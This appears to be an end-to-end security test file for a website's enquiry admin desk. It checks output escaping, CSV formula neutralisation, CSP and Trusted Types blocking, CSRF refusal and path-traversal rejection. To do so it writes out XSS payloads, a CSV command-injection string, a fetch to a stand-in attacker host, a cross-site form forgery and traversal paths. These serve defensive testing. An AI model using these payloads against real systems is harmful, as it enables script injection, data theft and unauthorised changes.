import { comeIn, expect, test } from './desk.ts';

const HTML =
  '<img src=x onerror="document.title=\'taken\'"><script>document.title="taken"</script>';

test('HTML that visitors write is shown as text, and formulas have no effect in a spreadsheet', async ({
  page,
  desk,
}) => {
  const id = await desk.enquire(1, {
    user_name: `=HYPERLINK("https://evil.example") ${HTML}`,
    user_email: 'a@example.org',
    property_type: '2BHK',
    message: `+1+cmd|' /C calc'!A0 ${HTML}`,
    project: HTML,
  });
  await comeIn(page, desk);
  await expect(page.locator('[data-row]')).toContainText('<img src=x');
  await page.goto(`${desk.origin}/desk/enquiry/${id}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('<script>');
  expect(await page.title()).toContain('HYPERLINK');
  expect(await page.locator('main img, main script').count()).toBe(0);
  const csv = await (
    await page.request.get(`${desk.origin}/desk/api/enquiries.csv?list=all`)
  ).text();
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example"")`);
  expect(csv).toContain(`"'+1+cmd|`);
});

test('an injected script does not run, and no data is sent', async ({
  page,
  desk,
  expectFault,
}) => {
  expectFault(/Content Security Policy|Trusted(HTML|Script)|Failed to load|Refused/);
  await comeIn(page, desk);
  const done = await page.evaluate(async () => {
    const refusals: string[] = [];
    const attempt = (run: () => void) => {
      try {
        run();
      } catch (error) {
        refusals.push((error as Error).name);
      }
    };
    attempt(() => {
      const script = document.createElement('script');
      script.textContent = 'window.taken = 1';
      document.body.append(script);
    });
    attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'));
    await fetch('https://evil.example/').catch(() => refusals.push('fetch'));
    return { taken: 'taken' in window, refusals };
  });
  expect(done).toEqual({ taken: false, refusals: ['TypeError', 'TypeError', 'fetch'] });
});

test('scripts and other sites cannot read the session', async ({
  page,
  desk,
  browser,
  expectFault,
}) => {
  expectFault(/./);
  const id = await desk.enquire(1, { user_name: 'Meera', message: 'Hello' });
  await comeIn(page, desk);
  expect(await page.evaluate(() => document.cookie)).toBe('');
  const state = await page.context().storageState();
  const context = await browser.newContext({ storageState: state });
  const foreign = await context.newPage();
  await foreign.route('http://evil.test/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<p>evil' }),
  );
  await foreign.goto('http://evil.test/');
  const outcome = await foreign.evaluate(
    async ([origin, reference]) => {
      const form = Object.assign(document.createElement('form'), {
        method: 'post',
        action: `${origin}/desk/api/enquiries/${reference}/state`,
        enctype: 'text/plain',
        target: 'x',
      });
      form.append(
        Object.assign(document.createElement('input'), {
          name: '{"state":"spam","x":"',
          value: '"}',
        }),
      );
      const frame = Object.assign(document.createElement('iframe'), { name: 'x' });
      document.body.append(frame, form);
      form.submit();
      return fetch(`${origin}/desk/api/inbox`, { credentials: 'include' }).then(
        (answer) => answer.status,
        () => 'refused',
      );
    },
    [desk.origin, id],
  );
  expect(outcome).toBe('refused');
  const whole = await desk.database.call('enquiryInFull', id);
  expect(whole?.enquiry.spam_reason).toBeNull();
  await context.close();
});

test('no address of the site has data of the desk, and no page of the site mentions the desk', async ({
  page,
  desk,
  request,
}) => {
  await comeIn(page, desk);
  for (const path of [
    '/desk/../data',
    '/desk/%2e%2e/enquiries.sqlite',
    '/desk/assets/../../sources.txt',
    '/desk/sources.txt',
    '/enquiries.sqlite',
    '/desk/index.html.map',
  ])
    expect([path, (await request.get(desk.origin + path)).status()]).toEqual([path, 404]);
  for (const path of ['/', '/contact', '/privacy', '/sitemap.xml', '/robots.txt'])
    expect([
      path,
      /["'/]desk["'/#?]/.test(await (await request.get(desk.origin + path)).text()),
    ]).toEqual([path, false]);
  const answer = await request.get(`${desk.origin}/desk`);
  expect(answer.headers()).toMatchObject({
    'x-robots-tag': 'noindex',
    'x-frame-options': 'DENY',
    'content-security-policy': expect.stringMatching(
      /default-src 'none'; script-src 'self'; style-src 'self'.*trusted-types/,
    ),
  });
  expect((await request.get(`${desk.origin}/`)).headers()['set-cookie']).toBeUndefined();
});
